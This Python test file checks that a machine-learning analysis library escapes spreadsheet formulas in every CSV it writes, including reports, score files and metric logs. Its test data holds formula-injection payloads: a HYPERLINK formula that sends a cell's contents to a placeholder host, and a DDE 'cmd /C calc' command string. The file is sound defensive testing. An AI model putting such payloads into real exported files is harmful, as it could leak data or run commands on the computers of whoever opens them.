"""CSV files that people open in a spreadsheet: no class, id or value becomes a formula there."""

from __future__ import annotations

import base64
import csv
import gzip
import io
import re
from dataclasses import replace

import numpy as np
import pytest

from paths import ROOT
from report_pages import planted
from weakspot import Findings, Slices
from weakspot.app.tree_pages import csv_response
from weakspot.delimited import csv_text, formula_free
from weakspot.report.class_csv import class_csv_files
from weakspot.report.member_csv import member_csvs
from weakspot.slices.statistics import describe
from weakspot.tasks import Classification
from weakspot.tracking.loggers import CsvLogger
from weakspot.tracking.score_reports import write_scores

FORMULAS = [
    '=HYPERLINK("http://x/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
]
PLAIN = ["-0.5", "+1e5", "-3", "-.5E-7", "cat", "a=b", " x", "", "'quoted", "−1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert formula_free(text) == f"'{text}"


def test_numbers_and_other_texts_are_unchanged() -> None:
    assert [formula_free(text) for text in PLAIN] == PLAIN
    assert cells(csv_text(["a"], [[-0.5], [None], [-1e-7], ["x"]])) == ["a", "-0.5", "", "-1e-07", "x"]


def test_every_file_that_is_written_is_free_of_formulas(tmp_path) -> None:
    p, slices = planted()
    ids = np.array([FORMULAS[i % 8] + str(i) if i % 2 else f"-{i}" for i in range(len(p))])
    hostile = replace(p, ids=ids, task=Classification(("=1+1", "@cat")))
    findings = Findings.build(
        hostile, Slices("scan", ids, slices.weights, describe(np.asarray(slices.weights), hostile))
    )
    members = [
        gzip.decompress(base64.b64decode(part)).decode() for part in member_csvs(findings, 10**6).values()
    ]
    write_scores({"=1+1": {"f1": -0.25}, "-7": {"f1": 1.0}}, tmp_path)
    logger = CsvLogger(tmp_path)
    logger.log_metrics({"=1+1": -2.5})
    logger.finalize("success")
    texts = [
        *class_csv_files(findings).values(),
        *members,
        csv_response(("id",), [(one,) for one in ids], "ids.csv").body.decode(),
        (tmp_path / "scores.csv").read_text(),
        (tmp_path / "metrics.csv").read_text(),
    ]
    for text in texts:
        found = cells(text)
        assert [formula_free(cell) for cell in found] == found
        assert any(cell.startswith("'") for cell in found)
    assert "-0.25" in cells(texts[-2])
    assert "-7" in cells(texts[-2])
    assert "-2.5" in cells(texts[-1])
    listed = cells(members[0])[2::2]
    assert set(listed) <= set(map(formula_free, ids))
    assert any(cell.startswith("-") for cell in listed)


def test_csv_is_written_only_where_formulas_are_escaped() -> None:
    """Code that writes CSV in another way would escape nothing."""
    writers = re.compile(r"csv\.(?:writer|DictWriter|write_csv)|\.to_csv\(")
    found = {
        path.name for path in (ROOT / "src").rglob("*.py") if writers.search(path.read_text(encoding="utf-8"))
    }
    assert found == {"delimited.py", "member_csv.py"}
